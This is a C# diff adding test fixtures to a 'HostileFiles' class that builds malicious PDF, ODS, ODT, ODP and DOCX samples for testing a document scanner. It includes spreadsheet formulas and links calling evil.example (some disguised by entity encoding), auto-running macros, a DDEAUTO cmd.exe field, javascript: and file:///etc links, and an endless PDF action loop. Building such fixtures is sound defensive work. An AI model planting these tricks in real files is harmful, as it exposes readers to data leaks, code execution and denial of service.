@@ -52,6 +52,9 @@ internal static class HostileFiles
         ["a PDF whose picture opens an address"] = ("a.pdf", () => PdfWithPage($"/Annots[<</Type/Annot/Subtype/Stamp/Rect[0 0 9 9]/AA<</PO{Address}>>>>]")),
         ["a PDF whose field opens an address"] = ("a.pdf", () => Pdf("a", "/AcroForm<</Fields[5 0 R]>>", "", "<</T(a)/Kids[6 0 R]>>", $"<</FT/Tx/T(b)/Parent 5 0 R/AA<</Fo{Address}>>>>")),
         ["a PDF that opens another file"] = ("a.pdf", () => Pdf("a", "/OpenAction<</S/GoToR/F(//evil.example/a.pdf)/D[0/Fit]>>")),
+        ["a PDF whose action is also on its page"] = ("a.pdf", () => PdfOf("a", $"/Annots[5 0 R]/AA<</O 5 0 R>>", "", "", [Address])),
+        ["a PDF of which a page is an action"] = ("a.pdf", () => PdfOf("a", $"/AA<</O{Address}>>", "/OpenAction 2 0 R", "", [])),
+        ["a PDF with an endless list of actions"] = ("a.pdf", () => WithActions(600_000)),
         ["a PDF with an attachment"] = ("a.pdf", () => Pdf("a", "/Names<</EmbeddedFiles 5 0 R>>")),
         ["a PDF with a form of XML"] = ("a.pdf", () => Pdf("a", "/AcroForm<</XFA 5 0 R>>")),
         ["a PDF that sends what is typed"] = ("a.pdf", () => Pdf("a", "/OpenAction<</S/SubmitForm/F(http://evil.example)>>")),
@@ -70,13 +73,38 @@ internal static class HostileFiles
         ["a DOCX with a template elsewhere"] = ("a.docx", () => Docx("word/_rels/settings.xml.rels", Links("attachedTemplate", "https://evil.example/a.dotm", "External"))),
         ["a DOCX with a template on another machine"] = ("a.docx", () => Docx("word/_rels/settings.xml.rels", Links("attachedTemplate", "file:////evil.example/a.dotm", "External"))),
         ["an XLSX with a cell that asks another host"] = ("a.xlsx", () => Zip([.. OpenXml(FileType.Xlsx), new("xl/worksheets/a.xml", "<f>_xlfn.WEBSERVICE(\"https://evil.example\")</f>")])),
-        ["an ODS with a cell that asks another host"] = ("a.ods", () => Zip([.. OpenDocument(FileType.Ods), new("a.xml", "<c f=\"of:=WEBSERVICE(&quot;https://evil.example&quot;)\"/>")])),
+        ["an ODS with a cell that asks another host"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=WEBSERVICE(&quot;https://evil.example&quot;)\"/>")),
+        ["an ODS with a cell that asks another host under another name"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=1+COM.MICROSOFT.&#87;EBSERVICE(&quot;https://evil.example&quot;)\"/>")),
+        ["an ODS with a name that asks another host"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:named-expression table:expression=\"of:=1+WEBSERVICE(&quot;https://evil.example&quot;)\"/>")),
+        ["an ODS with a cell from elsewhere"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=[&#39;https://evil.example/a.ods'#$Sheet1.A1]\"/>")),
+        ["an ODS with a cell from another machine"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=['//evil.example/a.ods'#$Sheet1.A1]\"/>")),
+        ["an ODS with a cell from a disk"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=SUM([' file:/a.ods'#$Sheet1.A1])\"/>")),
+        ["an ODS with a format that asks another host"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<c:condition xmlns:c=\"urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0\" c:value=\"formula-is(WEBSERVICE(&quot;https://evil.example&quot;))\"/>")),
         ["a DOCX with a picture elsewhere"] = ("a.docx", () => Docx("word/_rels/document.xml.rels", Links("image", "https://evil.example/a.png", "External"))),
         ["a DOCX with a program"] = ("a.docx", () => Docx("word/embeddings/a.exe", "MZ")),
         ["a DOCX with entities that multiply"] = ("a.docx", () => Docx("word/a.xml", "<!DOCTYPE a [<!ENTITY b \"bb\">]><a>&b;</a>")),
         ["a DOCX that starts a program"] = ("a.docx", () => Docx("word/a.xml", "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>")),
         ["an ODT with macros"] = ("a.odt", () => Zip([.. OpenDocument(FileType.Odt), new("Basic/Standard/Module1.xml", "<a/>")])),
         ["an ODT that calls a macro"] = ("a.odt", () => Zip([.. OpenDocument(FileType.Odt), new("styles.xml", "<a href=\"vnd.sun.star.script:a\"/>")])),
+        ["an ODT with a macro that starts by itself"] = ("a.odt", () => LinkedOdt("content.xml", "<office:scripts><office:event-listeners><s:event-listener xmlns:s=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\" s:language=\"ooo:script\" s:event-name=\"dom:load\" xlink:href=\"&#118;nd.sun.star.script:a?language=Python&amp;location=share\"/></office:event-listeners></office:scripts>")),
+        ["an ODT with a macro under a newer vocabulary"] = ("a.odt", () => LinkedOdt("content.xml", "<s:event-listener xmlns:s=\"urn:oasis:names:tc:opendocument:xmlns:script:1.1\" s:event-name=\"dom:load\" xlink:href=\"a\"/>")),
+        ["an ODT with a script"] = ("a.odt", () => LinkedOdt("content.xml", "<text:p s:language=\"Basic\" xmlns:s=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\"/>")),
+        ["an ODT with a script of no language"] = ("a.odt", () => LinkedOdt("content.xml", "<office:script/>")),
+        ["an ODT that names a macro"] = ("a.odt", () => LinkedOdt("content.xml", "<presentation:event-listener s:macro-name=\"a\" xmlns:s=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\"/>")),
+        ["an ODT whose link calls a macro"] = ("a.odt", () => LinkedOdt("content.xml", "<text:a xlink:href=\"&#118;nd.sun.star.script:a\"/>")),
+        ["an ODT whose link calls a macro under another name"] = ("a.odt", () => LinkedOdt("content.xml", "<text:a xlink:href=\"&#109;acro:a\"/>")),
+        ["an ODT whose link gives an order"] = ("a.odt", () => LinkedOdt("content.xml", "<text:a xlink:href=\".uno:Quit\"/>")),
+        ["an ODT whose link opens a file"] = ("a.odt", () => LinkedOdt("content.xml", "<draw:a xlink:href=\"file:///etc/a\"/>")),
+        ["an ODT whose link opens another machine"] = ("a.odt", () => LinkedOdt("content.xml", "<draw:area-circle xlink:href=\"\\\\evil.example\\a\"/>")),
+        ["an ODT whose link runs"] = ("a.odt", () => LinkedOdt("content.xml", "<text:a xlink:href=\"java&#10;script:alert(1)\"/>")),
+        ["an ODT with a key that calls a macro"] = ("a.odt", () => LinkedOdt("Configurations2/accelerator/current.xml", "<a xlink:href=\"&#118;nd.sun.star.script:a\"/>")),
+        ["an ODT with a menu that calls a macro"] = ("a.odt", () => LinkedOdt("Configurations2/menubar/menubar.xml", "<m:menuitem xmlns:m=\"http://openoffice.org/2001/menu\" m:id=\"&#118;nd.sun.star.script:a\"/>")),
+        ["an ODT with settings from elsewhere"] = ("a.odt", () => LinkedOdt("settings.xml", "<office:settings xlink:href=\"&#104;ttps://evil.example\"/>")),
+        ["an ODT with facts from elsewhere"] = ("a.odt", () => LinkedOdt("manifest.rdf", "<office:meta xlink:href=\"&#104;ttps://evil.example\"/>")),
+        ["an ODT without content"] = ("a.odt", () => Zip(new Dictionary<string, string>(OpenDocument(FileType.Odt)) { ["content.xml"] = "" })),
+        ["an ODP whose shape starts a program"] = ("a.odp", () => LinkedFile(FileType.Odp, "content.xml", "<presentation:event-listener presentation:action=\"execute\" xlink:href=\"a.exe\"/>")),
+        ["an ODP whose shape starts a macro"] = ("a.odp", () => LinkedFile(FileType.Odp, "content.xml", "<presentation:event-listener presentation:action=\"macro\" xlink:href=\"a.exe\"/>")),
+        ["an ODP whose shape starts an object"] = ("a.odp", () => LinkedFile(FileType.Odp, "content.xml", "<presentation:event-listener presentation:action=\"verb\" xlink:href=\"a.exe\"/>")),
         ["an ODT with a picture elsewhere"] = ("a.odt", () => LinkedOdt("content.xml", "<draw:image xlink:href=\"https://evil.example/a.png\"/>")),
         ["an ODT with a picture elsewhere under another name"] = ("a.odt", () => LinkedOdt("content.xml", "<d:image xmlns:d=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\" xmlns:l=\"http://www.w3.org/1999/xlink\" l:href=\" &#104;ttp://evil.example/a.png\"/>")),
         ["an ODT with a picture on another machine"] = ("a.odt", () => LinkedOdt("content.xml", "<draw:image xlink:href=\"//evil.example/a.png\"/>")),
@@ -122,9 +150,15 @@ internal static class HostileFiles
 
     private static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);
 
-    private static byte[] LinkedOdt(string part, string elements) => Zip(new Dictionary<string, string>(OpenDocument(FileType.Odt)) { [part] = LinkedContent(elements) });
+    private static byte[] LinkedOdt(string part, string elements) => LinkedFile(FileType.Odt, part, elements);
+
+    private static byte[] LinkedFile(FileType type, string part, string elements) => Zip(new Dictionary<string, string>(OpenDocument(type)) { [part] = LinkedContent(elements) });
 
     private static byte[] Docx(string part, string text) => Zip([.. OpenXml(FileType.Docx), new(part, text)]);
+
+    /// <summary>A PDF with an action after which it follows itself, again and again.</summary>
+    public static byte[] WithActions(int count) =>
+        Pdf("a", "/OpenAction 5 0 R", "", "<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>", $"[{string.Concat(Enumerable.Repeat("5 0 R ", count))}]");
 
     /// <summary>A document with workbooks in it, each of which alone is small enough.</summary>
     public static (string Name, byte[] Bytes) WithWorkbooks(int count)
